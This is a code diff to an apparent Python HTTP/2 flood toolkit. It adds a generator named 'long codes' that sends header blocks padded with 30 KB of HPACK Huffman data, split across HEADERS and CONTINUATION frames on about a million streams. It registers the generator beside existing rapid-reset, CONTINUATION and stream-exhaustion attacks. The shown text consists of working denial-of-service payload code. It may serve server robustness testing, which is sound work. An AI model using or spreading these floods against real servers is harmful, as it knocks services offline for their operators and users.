@@ -80,6 +80,14 @@ def rapid_reset() -> Iterator[bytes]:
         yield frame(1, 5, stream, HEALTH) + frame(3, 0, stream, struct.pack(">I", 8))
 
 
+def codes() -> Iterator[bytes]:
+    """Heads with 30 KB in Huffman's code, as many as a client may send before it has to leave."""
+    code = literal(b"x", b"", b"\0")[:-1] + b"\xff\xb1\xe9\x01" + b"\0" * 30_000
+    block = HEALTH + code
+    for i in range(1 << 20):
+        yield frame(1, 1, 2 * i + 1, block[:16_000]) + frame(9, 4, 2 * i + 1, block[16_000:])
+
+
 def continuation() -> Iterator[bytes]:
     yield frame(1, 1, 1, HEALTH)
     yield from cycle([frame(9, 0, 1, literal(b"x", b"y")) * 16])
@@ -123,6 +131,7 @@ FLOODS: Final[dict[str, Attack]] = {
     "malformed heads": resets_after_refusals,
     "too many streams": too_many_streams,
     "CONTINUATION": continuation,
+    "long codes": codes,
 }
 
 
